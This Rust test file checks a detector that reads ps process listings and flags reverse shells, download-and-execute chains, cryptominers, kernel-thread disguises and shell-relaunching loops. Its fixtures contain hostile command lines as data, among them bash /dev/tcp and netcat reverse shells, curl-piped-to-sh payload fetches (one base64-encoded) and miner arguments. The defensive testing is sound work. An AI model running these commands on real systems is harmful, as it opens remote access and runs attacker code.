//! Table tests of the tree and the lineage rules on captures as ps prints them.

use super::*;
use crate::cmdline;
use crate::ingest::top::tests::parse_bytes;
use crate::model::Severity;

fn run(text: &str) -> (ProcessCapture, ProcessTree, Vec<Finding>) {
    let (c, d) = parse_bytes(text.as_bytes());
    assert!(d.is_empty(), "{d:?}");
    let (t, f) = analyze(&c);
    (c, t, f)
}

fn rules_of(f: &[Finding]) -> Vec<(&str, Severity)> {
    let mut v: Vec<(&str, Severity)> = f.iter().map(|f| (f.rule.as_str(), f.severity)).collect();
    v.sort();
    v
}

const LOG4SHELL: &str = r"UID          PID    PPID  C STIME TTY          TIME CMD
root       84010    4000  3 14:00 ?        00:05:10 /usr/bin/java -jar /app/log4shell-vulnerable-app.jar
root       84281   84010  0 14:02 ?        00:00:00 bash -i >& /dev/tcp/10.0.0.5/4444 0>&1
root       84299   84281  0 14:03 ?        00:00:00 sleep 100
";

#[test]
fn java_spawning_a_reverse_shell() {
    let (c, t, f) = run(LOG4SHELL);
    assert_eq!(
        rules_of(&f),
        [("proc.lineage.server-shell", Severity::High), ("proc.revshell", Severity::Critical)]
    );
    for finding in &f {
        let lines: Vec<Option<u64>> = finding.evidence.iter().map(|l| l.line).collect();
        assert_eq!(lines, [Some(2), Some(3)], "{}", finding.rule);
        assert!(
            finding
                .summary
                .starts_with("java (84010) -> bash (84281): bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"),
            "{}",
            finding.summary
        );
    }
    let rev = f.iter().find(|f| f.rule == "proc.revshell").unwrap();
    assert!(rev.summary.contains("callback 10.0.0.5:4444 (bash /dev/tcp)"), "{}", rev.summary);
    assert_eq!(rev.attack.as_deref(), Some("T1059.004"));
    assert_eq!(t.roots, [84010]);
    let bash = t.nodes.iter().find(|n| n.pid == 84281).unwrap();
    assert_eq!((bash.parent, bash.depth), (Some(84010), 1));
    assert_eq!(bash.flags, ["proc.lineage.server-shell", "proc.revshell"]);
    assert!(t.nodes.iter().find(|n| n.pid == 84299).unwrap().flags.is_empty());
    assert_eq!(c.processes.len(), 3);
}

#[test]
fn server_shell_network_tool_chain_and_timeline() {
    let text = r"  PID  PPID USER     STARTED                  COMMAND
    7     1 tomcat   Fri Nov 27 14:00:00 2026 /opt/java/bin/java -classpath /usr/local/tomcat/bin/bootstrap.jar org.apache.catalina.startup.Bootstrap start
   90     7 tomcat   Fri Nov 27 15:10:00 2026 /bin/sh -c cd /tmp && sh
   91    90 tomcat   Fri Nov 27 15:10:01 2026 sh
   95    91 tomcat   Fri Nov 27 15:10:07 2026 curl -s -o /tmp/k http://203.0.113.9/k
";
    let (c, _, f) = run(text);
    let net = f.iter().find(|f| f.rule == "proc.lineage.server-shell-net").expect("net lineage");
    assert_eq!(net.severity, Severity::Critical);
    assert_eq!(net.evidence.len(), 4);
    assert!(
        net.summary.starts_with("java (7) -> sh (90) -> sh (91) -> curl (95): curl -s"),
        "{}",
        net.summary
    );
    assert_eq!(net.time.map(|t| t.to_iso()).as_deref(), Some("2026-11-27T15:10:07.000000000Z"));
    assert_eq!(f.iter().filter(|f| f.rule == "proc.lineage.server-shell").count(), 1, "only the first shell");
    let tl = timeline(&c);
    assert_eq!(tl.len(), 4);
    assert_eq!(tl[3].kind, "process-start");
    assert!(tl[3].message.starts_with("curl (95, parent 91) started: curl -s"), "{}", tl[3].message);
}

#[test]
fn benign_trees_have_nothing_above_low() {
    let nginx = r"UID          PID    PPID  C STIME TTY          TIME CMD
root        3001    2990  0 Nov27 ?        00:00:00 nginx: master process nginx -g daemon off;
101         3050    3001  0 Nov27 ?        00:00:12 nginx: worker process
101         3051    3001  0 Nov27 ?        00:00:11 nginx: worker process
";
    let postgres = r"USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND
postgres       1  0.0  0.7 215692 29008 ?        Ss   Nov27   0:02 postgres
postgres      27  0.0  0.2 215828  9144 ?        Ss   Nov27   0:00 postgres: checkpointer
postgres      28  0.0  0.1 215692  6000 ?        Ss   Nov27   0:00 postgres: background writer
postgres      30  0.0  0.2 217284  8388 ?        Ss   Nov27   0:00 postgres: autovacuum launcher
postgres      31 95.0  1.0 217284  8388 ?        Rs   Nov27  40:00 postgres: app app 172.17.0.3(51234) SELECT
";
    let sidecar = r"  PID  PPID USER     TT       COMMAND
    1     0 root     ?        /sbin/tini -- /docker-entrypoint.sh
    8     1 root     ?        /bin/sh /docker-entrypoint.sh
   12     8 root     ?        bash -c '</dev/tcp/127.0.0.1/5432'
   13     8 root     ?        /usr/bin/node /srv/index.js
";
    let npm = r"  PID  PPID USER     COMMAND
    1     0 node     node /usr/local/bin/npm start
   18     1 node     sh -c node server.js
   19    18 node     node server.js
";
    let apache = r"  PID  PPID USER     COMMAND
    1     0 root     httpd -DFOREGROUND
    9     1 root     /bin/sh -c /usr/sbin/rotatelogs /var/log/httpd/access_log 86400
   10     9 root     /usr/sbin/rotatelogs /var/log/httpd/access_log 86400
";
    for text in [nginx, postgres, sidecar, npm, apache] {
        let (_, _, f) = run(text);
        assert!(f.iter().all(|f| f.severity <= Severity::Low), "{text}\n{f:#?}");
    }
}

#[test]
fn command_line_rules() {
    let b64 = "Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjkvaS5zaCB8IHNo";
    let text = format!(
        r"USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND
root           1  0.0  0.1  10000  2000 ?        Ss   14:00   0:00 node /srv/app.js
root          40 99.0  2.0 400000 80000 ?        Sl   14:05  50:00 /tmp/.cache2/kswapd0 -o stratum+tcp://pool.example:3333
root          41 97.0  2.0 400000 80000 ?        Sl   14:05  50:00 /usr/local/bin/sysupdate
root          42  0.0  0.0   4000  1000 pts/0    Ss+  14:06   0:00 -bash
root          43  0.0  0.0   9000  1200 ?        S    14:07   0:00 [kworker/0:2]
root          44  0.0  0.0   4000  1000 ?        S    14:08   0:00 sh -c echo {b64}|base64 -d|sh
root          45  0.0  0.0      0     0 ?        Z    14:08   0:00 [sh] <defunct>
"
    );
    let (_, t, f) = run(&text);
    assert_eq!(t.parentage, Parentage::None);
    let got: Vec<(&str, u32)> = {
        let mut v: Vec<(&str, u32)> = f
            .iter()
            .map(|f| (f.rule.as_str(), f.evidence.last().and_then(|l| l.line).unwrap_or(0) as u32))
            .collect();
        v.sort();
        v
    };
    assert_eq!(
        got,
        [
            ("proc.base64-exec", 7),
            ("proc.download-exec", 7),
            ("proc.exec.hidden-dir", 3),
            ("proc.exec.writable-dir", 3),
            ("proc.interactive-shell", 5),
            ("proc.kthread-lookalike", 3),
            ("proc.kthread-lookalike", 6),
            ("proc.miner", 3),
            ("proc.miner.cpu", 4),
        ]
    );
    let b = f.iter().find(|f| f.rule == "proc.base64-exec").unwrap();
    assert!(b.summary.contains("decoded: curl -fsSL http://203.0.113.9/i.sh | sh"), "{}", b.summary);
    let d = f.iter().find(|f| f.rule == "proc.download-exec").unwrap();
    assert!(
        d.summary.contains(
            "source http://203.0.113.9/i.sh (decoded from base64: curl -fsSL http://203.0.113.9/i.sh | sh)"
        ),
        "{}",
        d.summary
    );
}

#[test]
fn hidden_dir_and_busybox_shell_under_php() {
    let text = r"PID   PPID  USER     COMMAND
    1     0 root     php-fpm: master process (/usr/local/etc/php-fpm.conf)
   20     1 www-data php-fpm: pool www
   66    20 www-data busybox sh -c /var/www/.x/run
   67    66 www-data /var/www/.x/run
";
    let (_, _, f) = run(text);
    assert_eq!(
        rules_of(&f),
        [("proc.exec.hidden-dir", Severity::High), ("proc.lineage.server-shell", Severity::High)]
    );
    let h = f.iter().find(|f| f.rule == "proc.exec.hidden-dir").unwrap();
    assert!(h.summary.starts_with("php-fpm (20) -> busybox (66) -> run (67)"), "{}", h.summary);
}

#[test]
fn shell_upgraded_to_a_terminal() {
    let text = r#"UID          PID    PPID  C STIME TTY          TIME CMD
root       84010    4000  3 14:00 ?        00:05:10 /usr/bin/java -jar /app/app.jar
root       84281   84010  0 14:02 ?        00:00:00 bash -i >& /dev/tcp/10.0.0.5/4444 0>&1
root       84300   84281  0 14:03 ?        00:00:00 python3 -c import pty; pty.spawn("/bin/bash")
root       84301   84300  0 14:03 pts/0    00:00:00 /bin/bash
root       84400   84010  0 14:05 ?        00:00:00 script -qc /bin/bash /dev/null
root       84500   84010  0 14:06 ?        00:00:00 python3 -m http.server 8000
"#;
    let (_, _, f) = run(text);
    let up: Vec<&Finding> = f.iter().filter(|f| f.rule == "proc.tty-upgrade").collect();
    assert_eq!(up.len(), 2, "{f:#?}");
    assert!(up[0].summary.contains("python pty.spawn"), "{}", up[0].summary);
    assert!(up[1].summary.contains("script -c with a shell"), "{}", up[1].summary);
    assert_eq!(up[0].severity, Severity::High);
    assert_eq!(cmdline::tty_upgrade("script -a /var/log/session.log"), None);
    assert_eq!(
        cmdline::tty_upgrade("socat tcp:10.0.0.5:4444 exec:'bash -li',pty,stderr,setsid"),
        Some("socat with a pty")
    );
}

#[test]
fn kernel_thread_disguises_one_finding_each() {
    let text = r"UID          PID    PPID  C STIME TTY          TIME CMD
root           2       0  0 09:00 ?        00:00:00 [kthreadd]
root          31       2  0 09:00 ?        00:00:00 [kworker/0:1-events]
root       84010    4000  3 14:00 ?        00:05:10 /usr/bin/java -jar /app/app.jar
root       84500   84010 99 14:05 ?        01:00:00 [kworker/0:1] -o pool.example.net:3333 -u x -p x
root       84501   84010  0 14:05 ?        00:00:00 [ksoftirqd/0]
root       84502   84501  0 14:05 ?        00:00:00 [kthreadd]
root       84503   84010  0 14:06 ?        00:00:00 /tmp/.x/kswapd0
root       84504   84010  0 14:06 ?        00:00:00 [sh] <defunct>
";
    let (_, t, f) = run(text);
    let disguised: Vec<(u32, &str)> = f
        .iter()
        .filter(|f| f.rule == "proc.kthread-lookalike")
        .map(|f| {
            (
                f.subject.as_deref().unwrap_or("").split(' ').nth(1).unwrap_or("").parse().unwrap_or(0),
                f.summary.as_str(),
            )
        })
        .collect();
    let pids: Vec<u32> = disguised.iter().map(|d| d.0).collect();
    assert_eq!(pids, [84500, 84501, 84502, 84503], "{f:#?}");
    let sum = |pid: u32| disguised.iter().find(|d| d.0 == pid).map(|d| d.1).unwrap_or("");
    assert!(
        sum(84500).contains("named [kworker/0:1] but has arguments (-o pool.example.net:3333 -u x -p x)"),
        "{}",
        sum(84500)
    );
    assert!(
        sum(84500).contains("parent java (84010) is a user-space process, not kthreadd"),
        "{}",
        sum(84500)
    );
    assert!(sum(84502).contains("parent ksoftirqd/0 (84501) is a user-space process"), "{}", sum(84502));
    assert!(sum(84503).contains("runs the program file /tmp/.x/kswapd0"), "{}", sum(84503));
    let k = f.iter().find(|f| f.rule == "proc.kthread-lookalike").unwrap();
    assert_eq!((k.severity, k.attack.as_deref()), (Severity::High, Some("T1036.004,T1036.005")));
    // The disguised miner is a miner by its arguments, its pool an indicator.
    let m = f.iter().find(|f| f.rule == "proc.miner").expect("miner");
    assert!(m.summary.contains("pool pool.example.net:3333"), "{}", m.summary);
    let iocs: Vec<(&str, &str)> = m.iocs.iter().map(|i| (i.value.as_str(), i.role)).collect();
    assert_eq!(iocs, [("pool.example.net", "mining-pool"), ("3333", "mining-pool")]);
    let (c, _, _) = run(text);
    assert_eq!(c.processes.iter().find(|p| p.pid == 84500).map(|p| p.exe.as_str()), Some("kworker/0:1"));
    assert!(t
        .nodes
        .iter()
        .find(|n| n.pid == 84500)
        .is_some_and(|n| n.flags.contains(&"proc.kthread-lookalike".to_string())));
}

#[test]
fn miners_by_arguments_whatever_their_name() {
    let wallet =
        "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD";
    let text = format!(
        r"  PID  PPID USER     COMMAND
    1     0 root     /bin/sh /entrypoint.sh
   40     1 www-data ./.x -o 198.51.100.9:443 -u {wallet} -p x
   41     1 www-data /usr/local/bin/php-worker --url=stratum+tcp://pool.example.org:4444 --donate-level 1
   42     1 root     ssh -o StrictHostKeyChecking=no -p 2222 backup@db.example
"
    );
    let (_, _, f) = run(&text);
    let miners: Vec<&Finding> = f.iter().filter(|f| f.rule == "proc.miner").collect();
    assert_eq!(miners.len(), 2, "{f:#?}");
    assert!(miners.iter().any(|m| m.summary.contains("wallet 48edfH…GUicoD (Monero)")));
    let pools: Vec<String> = miners
        .iter()
        .flat_map(|m| m.iocs.iter().map(|i| format!("{:?}:{}:{}", i.kind, i.value, i.role)))
        .collect();
    assert!(pools.contains(&"Ip:198.51.100.9:mining-pool".to_string()), "{pools:?}");
    assert!(pools.contains(&"Port:443:mining-pool".to_string()), "{pools:?}");
    assert!(pools.contains(&"Domain:pool.example.org:mining-pool".to_string()), "{pools:?}");
}

#[test]
fn loops_relaunching_shells_and_callback_indicators() {
    let text = r"  PID  PPID USER     COMMAND
    1     0 root     httpd -f -p 8080
   50     1 root     sh -c while :; do nc 203.0.113.9 4444 -e /bin/sh; sleep 60; done
   51    50 root     nc 203.0.113.9 4444 -e /bin/sh
   60     1 root     watch -n 300 curl -fsSL http://203.0.113.9:8000/k.sh | sh
";
    let (_, _, f) = run(text);
    let loops: Vec<&Finding> = f.iter().filter(|f| f.rule == "proc.persistence.loop").collect();
    assert_eq!(loops.len(), 2, "{f:#?}");
    let nc = loops.iter().find(|l| l.summary.contains("sh (50)")).expect("the sh loop");
    assert!(
        nc.summary
            .contains("`while :` loop relaunches a reverse shell, callback 203.0.113.9:4444 (netcat -e)"),
        "{}",
        nc.summary
    );
    assert_eq!((nc.severity, nc.category.as_str()), (Severity::Critical, "persistence"));
    let iocs: Vec<(&str, &str)> = nc.iocs.iter().map(|i| (i.value.as_str(), i.role)).collect();
    assert_eq!(iocs, [("203.0.113.9", "callback"), ("4444", "callback")]);
    let w = loops.iter().find(|l| l.summary.contains("watch -n 300")).expect("the watch loop");
    assert_eq!(w.iocs.first().map(|i| i.value.as_str()), Some("http://203.0.113.9:8000/k.sh"));
    // The reverse shells of the loop and of its nc child carry their callback too.
    let rev = f.iter().find(|f| f.rule == "proc.revshell").expect("revshell");
    assert!(rev.iocs.iter().any(|i| i.value == "203.0.113.9" && i.role == "callback"), "{:?}", rev.iocs);
}
